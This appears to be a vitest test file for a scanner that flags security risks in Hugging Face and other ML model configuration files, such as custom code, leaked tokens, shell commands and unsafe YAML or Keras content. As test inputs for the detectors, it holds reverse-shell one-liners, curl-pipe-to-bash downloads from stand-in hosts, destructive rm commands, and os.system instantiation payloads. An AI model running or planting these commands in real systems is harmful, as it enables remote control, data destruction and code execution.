import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { LimitError } from "../../core/errors.js";
import type { Severity } from "../../core/severity.js";
import { getRule } from "../../rules/catalog.js";
import type { Issue } from "../analyzer.js";
import { analyzeKerasConfig } from "../keras/config.js";
import { inspectConfigText } from "./inspect.js";

const FIXTURES = new URL("../../../test/fixtures/hf/", import.meta.url).pathname;

function inspect(text: string, name = "config.json"): Issue[] {
  const out: Issue[] = [];
  inspectConfigText(text, name, (i) => out.push(i));
  return out;
}

function json(value: unknown, name = "config.json"): Issue[] {
  return inspect(JSON.stringify(value, null, 2), name);
}

function severityOf(issue: Issue): Severity {
  return issue.severity ?? getRule(issue.ruleId).severity;
}

const ids = (issues: Issue[]): string[] => issues.map((i) => i.ruleId);

describe("real Hugging Face configs", () => {
  const clean = ["gpt2", "bert-base-uncased", "openllama-3b", "deepseek-r1-distill-qwen-32b"];
  for (const model of clean) {
    it(`${model}: no hf finding and nothing at or above medium`, () => {
      for (const file of readdirSync(join(FIXTURES, model))) {
        const issues = inspect(readFileSync(join(FIXTURES, model, file), "utf8"), file);
        expect(issues.filter((i) => i.ruleId.startsWith("hf/")), `${model}/${file}`).toEqual([]);
        expect(issues.filter((i) => ["critical", "high", "medium"].includes(severityOf(i))), `${model}/${file}`).toEqual([]);
      }
    });
  }

  it("auto_map in config.json is high and names each module file (falcon-40b)", () => {
    const issues = inspect(readFileSync(join(FIXTURES, "falcon-40b/config.json"), "utf8"));
    expect(ids(issues)).toEqual(["hf/custom-code", "hf/custom-code"]);
    expect(issues.every((i) => severityOf(i) === "high")).toBe(true);
    expect(issues.map((i) => i.evidence?.["file"]).sort()).toEqual(["configuration_RW.py", "modelling_RW.py"]);
    expect(issues[1]!.message).toContain("RWForCausalLM");
  });

  it("groups the classes of one module in one finding (chatglm2-6b, phi-2)", () => {
    const glm = inspect(readFileSync(join(FIXTURES, "chatglm2-6b/config.json"), "utf8"));
    expect(glm.map((i) => i.evidence?.["file"]).sort()).toEqual(["configuration_chatglm.py", "modeling_chatglm.py"]);
    expect(glm.find((i) => i.evidence?.["file"] === "modeling_chatglm.py")!.evidence?.["classes"]).toBe(
      "ChatGLMForConditionalGeneration,ChatGLMForConditionalGeneration,ChatGLMForConditionalGeneration,ChatGLMForSequenceClassification",
    );
    const phi = inspect(readFileSync(join(FIXTURES, "phi-2/config.json"), "utf8"));
    expect(phi.map((i) => i.evidence?.["file"]).sort()).toEqual(["configuration_mixformer_sequential.py", "modeling_mixformer_sequential.py"]);
  });

  it("tokenizer and preprocessor auto_map (list with null, processors) are high", () => {
    const tok = inspect(readFileSync(join(FIXTURES, "chatglm2-6b/tokenizer_config.json"), "utf8"), "tokenizer_config.json");
    expect(ids(tok)).toEqual(["hf/custom-code"]);
    expect(tok[0]!.evidence?.["file"]).toBe("tokenization_chatglm.py");
    const pre = inspect(readFileSync(join(FIXTURES, "minicpm-v-2/preprocessor_config.json"), "utf8"), "preprocessor_config.json");
    expect(pre.map((i) => i.evidence?.["file"]).sort()).toEqual(["image_processing_minicpmv.py", "processing_minicpmv.py"]);
  });
});

describe("custom code references", () => {
  it("a reference to another repository is critical and names the repository", () => {
    const issues = json({
      model_type: "phi3",
      auto_map: { AutoConfig: "microsoft/Phi-3-mini-4k-instruct--configuration_phi3.Phi3Config", AutoModelForCausalLM: "modeling_phi3.Phi3ForCausalLM" },
    });
    const remote = issues.find((i) => i.ruleId === "hf/remote-code")!;
    expect(severityOf(remote)).toBe("critical");
    expect(remote.evidence).toMatchObject({ repo: "microsoft/Phi-3-mini-4k-instruct", file: "configuration_phi3.py" });
    expect(ids(issues).sort()).toEqual(["hf/custom-code", "hf/remote-code"]);
  });

  it("custom_pipelines impl", () => {
    const issues = json({ model_type: "bert", custom_pipelines: { "pair-classification": { impl: "custom_pipeline.PairClassificationPipeline", pt: ["AutoModelForSequenceClassification"] } } });
    expect(ids(issues)).toEqual(["hf/custom-code"]);
    expect(issues[0]!.evidence?.["file"]).toBe("custom_pipeline.py");
  });

  it("sentence-transformers modules.json: only types outside sentence_transformers", () => {
    const std = [
      { idx: 0, name: "0", path: "", type: "sentence_transformers.models.Transformer" },
      { idx: 1, name: "1", path: "1_Pooling", type: "sentence_transformers.models.Pooling" },
    ];
    expect(json(std, "modules.json")).toEqual([]);
    const custom = json([...std, { idx: 2, name: "2", path: "", type: "custom_st.Transformer" }], "modules.json");
    expect(ids(custom)).toEqual(["hf/custom-code"]);
    expect(custom[0]!.evidence?.["file"]).toBe("custom_st.py");
  });

  it("diffusers custom pipeline class in model_index.json", () => {
    const issues = json({ _class_name: ["pipeline_my", "MyPipeline"], _diffusers_version: "0.27.0", unet: ["diffusers", "UNet2DConditionModel"] }, "model_index.json");
    expect(ids(issues)).toEqual(["hf/custom-code"]);
    expect(issues[0]!.evidence?.["file"]).toBe("pipeline_my.py");
    expect(json({ _class_name: "StableDiffusionPipeline", _diffusers_version: "0.27.0", unet: ["diffusers", "UNet2DConditionModel"] }, "model_index.json")).toEqual([]);
  });
});

describe("credentials", () => {
  // Built at run time so no token-shaped literal sits in the repository.
  const hf = "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH";
  const aws = "AKIA" + "ABCDEFGHIJ234567";
  const gh = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
  const openai = "sk-proj-" + "Ab3dEf6hIj9lMn2pQr5tUv8xYz1bCd4fGh7jKl0n";
  const pem = "-----BEGIN " + "RSA PRIVATE KEY-----\nMIIEow...\n-----END RSA PRIVATE KEY-----";

  it("well-known token formats are high wherever they are, and are masked", () => {
    for (const [field, value] of Object.entries({ note: hf, aws_id: aws, deploy: gh, llm: openai, cert: pem })) {
      const issues = json({ model_type: "x", nested: { [field]: value } });
      expect(ids(issues), field).toEqual(["hf/embedded-secret"]);
      expect(severityOf(issues[0]!)).toBe("high");
      expect(issues[0]!.message).not.toContain(value);
      expect(JSON.stringify(issues[0]!.evidence)).not.toContain(value.slice(8));
    }
  });

  it("credential-named fields with random-looking values are high (generic heuristic)", () => {
    expect(ids(json({ config: { api_key: "sk-1234567890abcdef" } }))).toEqual(["hf/embedded-secret"]);
    expect(ids(json({ config: { exfil_key: "SECRET_API_KEY_12345" } }))).toEqual(["hf/embedded-secret"]);
    expect(ids(json({ wandb: { apiKey: "3f9a1c0e7b2d4a6f8e1c3b5d7f9a0c2e4b6d8f0a" } }))).toEqual(["hf/embedded-secret"]);
  });

  it("placeholders, env-var names, special tokens and booleans are not secrets", () => {
    const benign = {
      api_key: "<YOUR_API_KEY>",
      secret_key: "${SECRET_KEY}",
      password: "changeme",
      api_key_env: "OPENAI_API_KEY",
      hub_token: "<HUB_TOKEN>",
      use_auth_token: true,
      pad_token: "<|endoftext|>",
      mask_token: "[MASK]",
      bos_token: { content: "<s>", lstrip: false },
      key_dim: 64,
      tokenizer_class: "LlamaTokenizerFast",
      past_key_values: "past_key_values_2024",
    };
    expect(json(benign)).toEqual([]);
  });

  it("plain text files are checked for well-known formats only", () => {
    const issues = inspect(`import os\nTOKEN = "${hf}"\nprint("hello")\n`, "modeling_x.py");
    expect(ids(issues)).toEqual(["hf/embedded-secret"]);
    expect(issues[0]!.evidence?.["line"]).toBe(2);
    expect(inspect("api_key = 'SECRET_API_KEY_12345'\n", "notes.txt")).toEqual([]);
  });
});

describe("shell commands and endpoints", () => {
  it("shell command lines in config values are high", () => {
    for (const cmd of [
      "rm -rf /",
      "rm -fr ~/",
      "curl -s http://evil.example/x.sh | bash",
      "wget http://evil.example/payload -O /tmp/p",
      "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      "nc 10.0.0.1 4444 -e /bin/sh",
      "powershell -nop -enc SQBFAFgA",
      "python3 -c 'import socket,os,pty'",
    ]) {
      const issues = json({ model_type: "x", hooks: { post_load: cmd } });
      expect(ids(issues), cmd).toEqual(["hf/shell-command"]);
      expect(severityOf(issues[0]!)).toBe("high");
    }
  });

  it("prose that mentions tools is not a command", () => {
    const benign = { description: "Remove the cache with care; curl is not needed.", rm: "rm", format: "wget-compatible", note: "bash -- the shell" };
    expect(json(benign)).toEqual([]);
  });

  it("URLs in fetched fields are medium; other fields are not reported", () => {
    const issues = json({ config: { webhook_url: "https://hooks.example.net/T000/B000", api_endpoint: "http://attacker-c2.example/data" } });
    expect(ids(issues)).toEqual(["hf/external-url", "hf/external-url"]);
    expect(issues.every((i) => severityOf(i) === "medium")).toBe(true);
    expect(json({ homepage: "https://example.org/model", license_url_text: "see LICENSE", _name_or_path: "gpt2" })).toEqual([]);
  });

  it("reference URLs in a CycloneDX or SPDX document are not endpoints, unless a loader reads the file", () => {
    const refs = { externalReferences: [{ type: "distribution", url: "https://huggingface.co/org/model" }], downloadLocation: "https://example.org/m.tar" };
    expect(json({ bomFormat: "CycloneDX", specVersion: "1.6", ...refs }, "sbom.cdx.json")).toEqual([]);
    expect(json({ "@context": "https://spdx.org/rdf/3.0.1/spdx-context.jsonld", ...refs }, "model.spdx.json")).toEqual([]);
    expect(json({ spdxVersion: "SPDX-2.3", ...refs }, "bom.json")).toEqual([]);
    // A configuration a loader reads gains nothing by claiming to be an SBOM; other checks still run on SBOMs.
    expect(ids(json({ bomFormat: "CycloneDX", specVersion: "1.6", ...refs }, "config.json"))).toContain("hf/external-url");
    expect(ids(json({ bomFormat: "CycloneDX", specVersion: "1.6", token: "hf_abcdefghijklmnopqrstuvwxyzABCDEFGH" }, "sbom.json"))).toContain("hf/embedded-secret");
  });
});

describe("instantiate targets", () => {
  it("dangerous _target_ / target+params / class_path are critical", () => {
    expect(ids(json({ model: { _target_: "os.system", command: "id" } }))).toEqual(["hf/dangerous-target"]);
    expect(ids(json({ model: { target: "subprocess.Popen", params: { args: ["id"] } } }))).toEqual(["hf/dangerous-target"]);
    expect(ids(json({ init: { class_path: "builtins.exec", init_args: {} } }))).toEqual(["hf/dangerous-target"]);
    const found = json({ _target_: "torch.load", f: "x.pt" });
    expect(severityOf(found[0]!)).toBe("critical");
  });

  it("ordinary model targets are clean", () => {
    expect(json({ model: { _target_: "nemo.collections.asr.models.EncDecCTCModel" }, first_stage: { target: "ldm.models.autoencoder.AutoencoderKL", params: {} } })).toEqual([]);
    expect(json({ target: "os.system" })).toEqual([]); // a plain field called target, no params: not instantiated
  });
});

describe("YAML", () => {
  it("python/object tags: critical for dangerous callables, high otherwise", () => {
    const bad = inspect('model: x\nrun: !!python/object/apply:os.system ["id"]\n', "config.yaml");
    expect(ids(bad)).toEqual(["hf/yaml-python-object"]);
    expect(severityOf(bad[0]!)).toBe("critical");
    const od = inspect("params: !!python/object/apply:collections.OrderedDict\n- - [lr, 0.1]\n", "hparams.yaml");
    expect(ids(od)).toEqual(["hf/yaml-python-object"]);
    expect(severityOf(od[0]!)).toBe("high");
  });

  it("config checks apply to YAML values", () => {
    expect(ids(inspect("model:\n  _target_: subprocess.run\n  args: [id]\n", "model_config.yaml"))).toEqual(["hf/dangerous-target"]);
    expect(ids(inspect("deploy:\n  cmd: curl http://evil.example/a.sh | sh\n", "deploy.yml"))).toEqual(["hf/shell-command"]);
    expect(inspect("model_name: test-model\nparameters:\n  max_length: 1024\n", "model_config.yaml")).toEqual([]);
  });

  it("a billion-laughs alias bomb is a limit, not a hang", () => {
    const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (const [x, y] of [["b", "a"], ["c", "b"], ["d", "c"], ["e", "d"], ["f", "e"], ["g", "f"], ["h", "g"], ["i", "h"]]) {
      lines.push(`${x}: &${x} [${Array(9).fill(`*${y}`).join(",")}]`);
    }
    expect(() => inspect(lines.join("\n"), "bomb.yaml")).toThrow(LimitError);
  });

  it("invalid YAML named .yaml is a medium finding (not verified); YAML-looking prose is not", () => {
    const issues = inspect("key: [unclosed\n  - x: : y\n", "broken.yaml");
    expect(ids(issues)).toEqual(["hf/invalid-config"]);
    expect(severityOf(issues[0]!)).toBe("medium");
    expect(inspect("Note: this is text.\nIt: has colons.\n", "README.md")).toEqual([]);
  });
});

describe("other content", () => {
  it("invalid JSON named .json is a medium finding (not verified); JSON lines are not", () => {
    const issues = inspect('{"a": 1,,}', "config.json");
    expect(ids(issues)).toEqual(["hf/invalid-config"]);
    expect(severityOf(issues[0]!)).toBe("medium");
    expect(inspect('{"a": 1}\n{"a": 2}\n', "train.jsonl")).toEqual([]);
  });

  it("absurd nesting is a limit finding, not a crash", () => {
    expect(() => inspect("[".repeat(20_000) + "]".repeat(20_000), "deep.json")).toThrow(LimitError);
  });

  it("a Keras model config is handed to the Keras checks", () => {
    const config = {
      class_name: "Sequential",
      config: { name: "s", layers: [{ class_name: "Lambda", config: { name: "l", function: "lambda x: __import__('os').system('id')" } }] },
      keras_version: "2.13.1",
      backend: "tensorflow",
    };
    const expected = analyzeKerasConfig(config, "config.json").map((i) => i.ruleId);
    expect(expected.length).toBeGreaterThan(0);
    expect(ids(json(config)).filter((id) => id.startsWith("keras/"))).toEqual(expected);
  });

  it("TorchServe manifest names handler code; built-in handlers are fine", () => {
    const manifest = { createdOn: "01/01/2024", runtime: "python", model: { modelName: "m", serializedFile: "model.pt", handler: "my_handler.py", modelVersion: "1.0" }, archiverVersion: "0.9.0" };
    const issues = json(manifest, "MANIFEST.json");
    expect(ids(issues)).toEqual(["unsupported/torchserve-handler"]);
    expect(severityOf(issues[0]!)).toBe("high");
    expect(json({ ...manifest, model: { ...manifest.model, handler: "image_classifier" } }, "MANIFEST.json")).toEqual([]);
  });

  it("a Core ML package manifest is recognised but not verified", () => {
    const issues = json({ fileFormatVersion: "1.0.0", itemInfoEntries: { A: { path: "com.apple.CoreML/model.mlmodel" } }, rootModelIdentifier: "A" }, "Manifest.json");
    expect(ids(issues)).toEqual(["scanner/unsupported-format"]);
    expect(issues[0]!.message).toContain("Core ML");
  });
});
